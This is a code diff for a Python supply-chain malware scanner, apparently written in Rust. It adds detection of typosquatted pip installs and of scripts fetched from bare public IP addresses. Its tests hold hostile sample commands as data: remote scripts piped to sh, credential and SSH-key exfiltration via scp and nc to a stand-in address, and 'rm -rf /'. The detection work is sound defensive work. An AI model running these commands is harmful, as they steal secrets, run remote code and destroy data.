@@ -278,6 +278,90 @@ pub fn ships_credential_store(command: &str) -> Option<(&'static str, String)> {
     })
 }
 
+/// Standard-library modules that scripts ask pip for by mistake.
+const STANDARD_MODULES: &[&str] = &[
+    "threading",
+    "subprocess",
+    "socket",
+    "sqlite3",
+    "asyncio",
+    "hashlib",
+    "base64",
+    "logging",
+    "pathlib",
+    "shutil",
+    "tkinter",
+    "typing",
+    "datetime",
+    "random",
+    "json",
+    "time",
+    "uuid",
+    "urllib",
+    "getpass",
+    "platform",
+    "collections",
+    "multiprocessing",
+    "ctypes",
+    "zipfile",
+];
+
+/// The first project a `pip install` command names that imitates a popular project's name
+/// (as WH303 judges a required dependency: a typo per eight characters, a doubled letter,
+/// other digits, reordered words), with the project it imitates: `pip install colorsama`.
+pub fn pip_install_lookalike(command: &str) -> Option<(String, String)> {
+    let args = pip_install_args(command)?;
+    let popular = crate::names::popular();
+    let mut previous = "";
+    for word in args.split_whitespace().take(64) {
+        let word = word.trim_matches(|c| c == '"' || c == '\'' || c == ',');
+        let takes_value = matches!(
+            previous,
+            "-i" | "--index-url"
+                | "--extra-index-url"
+                | "-f"
+                | "--find-links"
+                | "--trusted-host"
+                | "-r"
+                | "--requirement"
+                | "-c"
+                | "--constraint"
+                | "-t"
+                | "--target"
+                | "--prefix"
+                | "--root"
+        );
+        previous = word;
+        if takes_value || word.starts_with('-') || word.contains(['/', '\\', ':', '…', '{', '$'])
+        {
+            continue;
+        }
+        // `name==1.0`, `name[extra]>=2`: the project name before any specifier.
+        let name = word
+            .split(['=', '<', '>', '!', '~', '[', ';', '@'])
+            .next()
+            .unwrap_or(word);
+        // `pip install threading`: a standard-library module asked of pip by mistake (it
+        // fails, or fetches an old stub) resembles some project too, but nobody chose it.
+        if name.len() < 3 || name.contains('.') || STANDARD_MODULES.contains(&name) {
+            continue;
+        }
+        let normalized = crate::names::normalize(name);
+        if popular.rank(&normalized).is_some() {
+            continue;
+        }
+        if let Some(imitation) = popular
+            .imitations(&normalized)
+            .into_iter()
+            .filter(|i| super::dependency_imitation::counts(i.how, normalized.chars().count()))
+            .min_by_key(|i| (i.how, i.rank))
+        {
+            return Some((name.to_owned(), imitation.target));
+        }
+    }
+    None
+}
+
 /// True when a command line switches off or blinds the machine's defences.
 pub fn disables_defenses(command: &str) -> bool {
     DEFENSE_EVASION.is_match(command_head(command))
@@ -331,6 +415,31 @@ pub fn is_dangerous_command(command: &str) -> bool {
         || FETCH_TOOL.is_match(command)
             && FETCH_TARGET.is_match(command)
             && !command.contains("--unix-socket")
+}
+
+/// True when a command line fetches from a URL whose host is a public IP address (not
+/// loopback, private or link-local: a test's own server).
+fn fetches_from_bare_address(command: &str) -> bool {
+    command_head(command)
+        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | ';'))
+        .filter_map(|word| {
+            word.strip_prefix("http://")
+                .or_else(|| word.strip_prefix("https://"))
+        })
+        .take(16)
+        .any(|rest| {
+            let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
+            let host = authority
+                .rsplit_once(':')
+                .map_or(authority, |(host, _)| host);
+            host.parse::<std::net::Ipv4Addr>().is_ok_and(|ip| {
+                !(ip.is_loopback()
+                    || ip.is_private()
+                    || ip.is_link_local()
+                    || ip.is_unspecified()
+                    || ip.is_broadcast())
+            })
+        })
 }
 
 /// `wget -qO /tmp/x URL && chmod +x /tmp/x`: a binary fetched and made executable in one
@@ -512,6 +621,7 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     check_runs_package_script(checker, call, known.unwrap_or(&shown), context);
     let evasion = known.filter(|text| disables_defenses(text));
     let shipped = known.and_then(|text| ships_credential_store(text).map(|store| (text, store)));
+    let lookalike = known.and_then(|text| pip_install_lookalike(text).map(|found| (text, found)));
     let off_index = known.and_then(|text| {
         pip_install_off_index(text)
             .map(|host| (text, format!("{host}, outside any package index")))
@@ -553,6 +663,20 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             vec!["spawn", "pip-install", "vcs-install"],
             format!(
                 "{qualname} runs `{}`, which installs the current state of {url}, code no package index has seen",
+                crate::text::shorten(text, 160)
+            ),
+        ),
+        _ if let Some((text, (name, target))) = lookalike => (
+            // A payload one `pip install` away, under a name a reviewer reads as a popular
+            // project; releases declare their real dependencies in metadata.
+            match context {
+                ExecContext::Install | ExecContext::Import => 0.75,
+                ExecContext::Runtime => 0.3,
+                ExecContext::TestOrDocs => 0.05,
+            },
+            vec!["spawn", "pip-install", "lookalike-install"],
+            format!(
+                "{qualname} runs `{}`, which installs `{name}`, a name imitating the popular project `{target}`",
                 crate::text::shorten(text, 160)
             ),
         ),
@@ -1056,6 +1180,9 @@ fn classify_command(
                 ExecContext::Install | ExecContext::Import => 0.9,
                 ExecContext::Runtime if fetches_and_marks_executable(command) => 0.75,
                 ExecContext::Runtime => 0.6,
+                // Tests download fixtures from their project's hosts; a script fetched from a
+                // bare public address and run is a payload parked where scanners look less.
+                ExecContext::TestOrDocs if fetches_from_bare_address(command) => 0.75,
                 ExecContext::TestOrDocs => 0.2,
             },
             vec!["spawn", "shell-dropper"],
@@ -1181,6 +1308,21 @@ mod tests {
             pip_install_from_vcs("pip install https://github.com/a/b/releases/download/v1/b.whl"),
             None
         );
+        assert_eq!(
+            pip_install_lookalike("pip install colorsama --quiet"),
+            Some(("colorsama".to_owned(), "colorama".to_owned()))
+        );
+        assert_eq!(
+            pip_install_lookalike("pip install requests==2.31 numpy"),
+            None
+        );
+        assert_eq!(
+            pip_install_lookalike("pip install -r requirements.txt"),
+            None
+        );
+        assert_eq!(pip_install_lookalike("pip install ./dist/x.whl"), None);
+        let squat = "import os\nos.system('pip install colorsama --quiet')\n";
+        assert!(max_severity("p/setup.py", squat, "WH120") >= 0.75);
         let named = "import subprocess\nsubprocess.run(['pip', 'install', 'requests'])\n";
         assert!(max_severity("p/pkg/mod.py", named, "WH120") < 0.6);
         let later = "import subprocess\ndef upgrade():\n    subprocess.run(['pip', 'install', 'git+https://github.com/a/b.git'])\n";
@@ -1295,6 +1437,22 @@ mod tests {
         assert!(is_dangerous_command("shutdown /s -f -t 0"));
         assert!(is_dangerous_command("rm -rf / --no-preserve-root"));
         assert!(!is_dangerous_command("rm -rf build/"));
+        assert!(fetches_from_bare_address(
+            "curl -s http://198.51.100.7/c.sh | sh"
+        ));
+        assert!(!fetches_from_bare_address(
+            "curl -s http://127.0.0.1:8000/c.sh | sh"
+        ));
+        assert!(!fetches_from_bare_address(
+            "curl -s http://10.0.0.5/c.sh | sh"
+        ));
+        assert!(!fetches_from_bare_address(
+            "curl -s https://sh.rustup.rs | sh"
+        ));
+        let parked = "import os\nos.system('curl -s http://198.51.100.7/c.sh | sh')\n";
+        assert!(max_severity("p/tests/conftest.py", parked, "WH120") >= 0.75);
+        let fixture = "import os\nos.system('curl -s https://sh.rustup.rs | sh')\n";
+        assert!(max_severity("p/tests/conftest.py", fixture, "WH120") <= 0.2);
         for shipping in [
             "scp -o StrictHostKeyChecking=no ~/.aws/credentials u@198.51.100.9:/srv/",
             "tar czf - ~/.ssh 2>/dev/null | nc 198.51.100.9 4444",
